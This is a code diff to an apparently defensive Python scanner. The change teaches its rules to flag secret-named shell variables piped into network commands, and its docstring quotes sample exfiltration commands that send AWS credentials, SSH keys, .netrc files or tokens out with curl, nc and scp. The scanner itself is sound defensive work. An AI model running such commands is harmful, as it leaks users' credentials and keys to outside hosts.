@@ -16,8 +16,9 @@ The rules, each a few words saying why:
   *transfer*. The text is read once into cues (``_CUES``), and three rules look at the cues:
   - *a command*: a source and a network command in one command (no ``;``, ``&&``, line or sentence
     between): the source piped or redirected into it (``cat ~/.aws/credentials | curl …``,
-    ``env | base64 | nc host 4444``), or given to it as an argument (``curl -F f=@~/.ssh/id_rsa``,
-    ``nc host 4444 < ~/.netrc``, ``scp ~/.ssh/id_ed25519 host:``);
+    ``env | base64 | nc host 4444``, ``echo $GITHUB_TOKEN | curl -d @- …``), or given to it as an
+    argument (``curl -F f=@~/.ssh/id_rsa``, ``nc host 4444 < ~/.netrc``, ``scp ~/.ssh/id_ed25519
+    host:``; a secret variable as an argument is its use: ``curl -H "Authorization: Bearer $TOKEN"``);
   - *code*: a secret file read, or the whole environment taken, within a few lines of a call that
     sends (``requests.post``, ``urlopen``, ``fetch(``, a socket);
   - *words*: a transfer verb (``send``, ``upload``, ``paste``, ``email`` …) whose object names a
@@ -161,6 +162,12 @@ _ENV_DUMP = (
     r"|\$\(\s*(?:env|printenv)\s*\)|`\s*(?:env|printenv)\s*`"
 )
 _ENV_WORDS = r"\b(?:environment(?:\s+variables)?|env(?:ironment)?\s+(?:vars?|variables))\b"
+# A variable named as a secret (``$GITHUB_TOKEN``, ``${DB_PASSWORD}``, ``$env:API_KEY``): a source when
+# piped into a network command, not as its argument (``curl -H "Authorization: Bearer $TOKEN"`` uses it).
+_SECRET_VARIABLE = (
+    r"\$(?:env:)?\{?[a-z_][a-z0-9_]*?(?:token|secret|passw(?:or)?d|api_?key|access_?key|private_?key"
+    r"|credentials?)[a-z0-9_]*\}?"
+)
 # A command that prints a secret.
 _SECRET_COMMAND = (
     r"\bsecurity\s+find-[\w-]*password|\bgh\s+auth\s+token|\bgcloud\s+auth\s+print-[\w-]*token"
@@ -205,6 +212,7 @@ _CUES = (
     ("file", _FILE),
     ("dump", _ENV_DUMP),
     ("command", _SECRET_COMMAND),
+    ("variable", _SECRET_VARIABLE),
     ("env", _ENV_WORDS),
     ("secret", _SECRET),
     ("passive", _PASSIVE),
@@ -227,7 +235,7 @@ _OUTBOUND = re.compile(
 )
 #: What a command can read from; what names a secret in words.
 _SOURCES = frozenset({"file", "dump", "command"})
-_SECRETS = frozenset({"file", "dump", "command", "env", "secret"})
+_SECRETS = frozenset({"file", "dump", "command", "variable", "env", "secret"})
 _READ_FILE = re.compile(
     r"\b(?:open|read_text|read_bytes|readFileSync|readFile|get-content|File\.read|slurp|cat)\b", re.I
 )
@@ -327,7 +335,8 @@ def instruction_like(text: str) -> str | None:
 
 def _by_command(cues: _Cues) -> bool:
     """A source piped or redirected into a network command, or given to one as an argument, in one
-    command."""
+    command; a secret variable piped into one (but ``ssh``, which a password is piped to for a
+    remote ``sudo -S``)."""
     source: _Cue | None = None  # the last source of this command
     piped = False  # ... and whether a pipe or redirection followed it
     net: _Cue | None = None  # the last network command of this command
@@ -337,14 +346,23 @@ def _by_command(cues: _Cues) -> bool:
         elif cue.kind == "pipe":
             piped = source is not None
         elif cue.kind in ("net", "mail"):
-            if source is not None and piped and cue.start - source.end <= _NEAR:
+            if source is not None and piped and _sent(cues.text, source, cue):
                 return True
             net = cue
         elif cue.kind in _SOURCES:
             if net is not None and _arguments(cues.text[net.end : cue.start]):
                 return True
             source, piped = cue, False
+        elif cue.kind == "variable":
+            source, piped = cue, False
     return False
+
+
+def _sent(text: str, source: _Cue, net: _Cue) -> bool:
+    """Whether the ``source`` piped into the network command ``net`` is sent by it."""
+    return net.start - source.end <= _NEAR and (
+        source.kind != "variable" or not text.startswith("ssh", net.start)
+    )
 
 
 def _arguments(between: str) -> bool:
